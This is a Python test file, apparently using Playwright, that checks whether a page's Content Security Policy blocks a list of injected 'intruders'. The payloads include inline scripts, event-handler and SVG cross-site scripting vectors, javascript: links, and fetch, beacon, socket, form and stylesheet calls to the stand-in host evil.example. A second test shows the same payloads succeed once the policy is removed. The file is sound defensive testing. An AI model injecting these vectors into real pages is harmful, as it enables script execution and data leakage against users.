"""The policy of a page: whatever would get into it could neither run nor fetch."""

from __future__ import annotations

import pytest

# Each adds something to the page that would set window.pwned or fetch.
INTRUDERS = {
    "script": "() => { const one = document.createElement('script'); one.textContent = 'window.pwned = 1';"
    "document.body.append(one) }",
    "script from elsewhere": "() => { const one = document.createElement('script');"
    "one.src = 'https://evil.example/x.js'; document.body.append(one) }",
    "module": "() => { const one = document.createElement('script'); one.type = 'module';"
    "one.textContent = 'import \"https://evil.example/x.js\"'; document.body.append(one) }",
    "handler": "() => { document.body.insertAdjacentHTML('beforeend', '<b id=x onclick=\"window.pwned = 1\">x</b>');"
    "document.querySelector('#x').click() }",
    "onerror": "() => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.pwned = 1\">')",
    "svg": "() => document.body.insertAdjacentHTML('beforeend',"
    "'<svg><animate attributeName=x dur=1s onbegin=\"window.pwned = 1\"></animate></svg>')",
    "link": "() => { document.body.insertAdjacentHTML('beforeend', '<a id=x href=\"javascript:window.pwned=1\">x</a>');"
    "document.querySelector('#x').click() }",
    "image": "() => { const one = new Image(); one.src = 'https://evil.example/x.png'; document.body.append(one) }",
    "style": "() => { const one = document.createElement('style');"
    "one.textContent = 'body { background: url(https://evil.example/x.png) }'; document.head.append(one) }",
    "style of an element": "() => document.body.setAttribute('style', 'background: url(https://evil.example/x.png)')",
    "style sheet": "() => { const one = document.createElement('link'); one.rel = 'stylesheet';"
    "one.href = 'https://evil.example/x.css'; document.head.append(one) }",
    "font": "() => { const one = new FontFace('x', 'url(https://evil.example/x.woff2)'); one.load().catch(() => 0) }",
    "frame": "() => { const one = document.createElement('iframe'); one.src = 'https://evil.example/';"
    "document.body.append(one) }",
    "frame of a script": "() => { const one = document.createElement('iframe');"
    "one.srcdoc = '<script>parent.pwned = 1</script>'; document.body.append(one) }",
    "object": "() => { const one = document.createElement('object'); one.data = 'https://evil.example/x.svg';"
    "document.body.append(one) }",
    "fetch": "() => fetch('https://evil.example/').catch(() => 0)",
    "beacon": "() => { navigator.sendBeacon('https://evil.example/', 'x') }",
    "socket": "() => { try { new WebSocket('wss://evil.example/') } catch (refused) { return 0 } }",
    "worker": "() => { try { new Worker('data:text/javascript,0') } catch (refused) { return 0 } }",
    "form": "() => { document.body.insertAdjacentHTML('beforeend',"
    "'<form action=\"https://evil.example/\"><input name=x></form>'); document.forms[0].submit() }",
    "base": "() => document.head.insertAdjacentHTML('beforeend', '<base href=\"https://evil.example/\">')",
    "eval": "() => { try { setTimeout('window.pwned = 1') } catch (refused) { return 0 } }",
}


@pytest.mark.parametrize("name", INTRUDERS)
def test_an_intruder_is_shut_out(visit, pages, name):
    """It does not run, asks nobody, leaves the look as it was, and the browser says that it was refused."""
    found = visit(pages["dossier"])
    before = found.ask("[getComputedStyle(document.body).backgroundImage, document.baseURI]")
    with found.page.expect_console_message(lambda message: "Content Security Policy" in message.text):
        found.ask(INTRUDERS[name])
    found.drawn()
    assert [] == found.left
    assert not found.ask("() => window.pwned")
    assert before == found.ask("[getComputedStyle(document.body).backgroundImage, document.baseURI]")
    assert pages["dossier"].as_uri() == found.page.url


def test_without_its_policy_a_page_would_let_them_in(visit, pages, tmp_path):
    """The intruders are real ones: in the same page without the policy they run and fetch."""
    text = pages["dossier"].read_text(encoding="utf-8")
    start = text.index('<meta http-equiv="Content-Security-Policy"')
    bare = tmp_path / "bare.html"
    bare.write_text(text[:start] + text[text.index(">", start) + 1 :], encoding="utf-8")
    for name in ("script", "handler", "onerror", "svg", "link"):
        found = visit(bare)
        found.ask(INTRUDERS[name])
        found.wait("() => window.pwned === 1")
    for name in ("image", "style", "fetch", "frame"):
        found = visit(bare)
        with found.page.expect_request("https://evil.example/**"):
            found.ask(INTRUDERS[name])
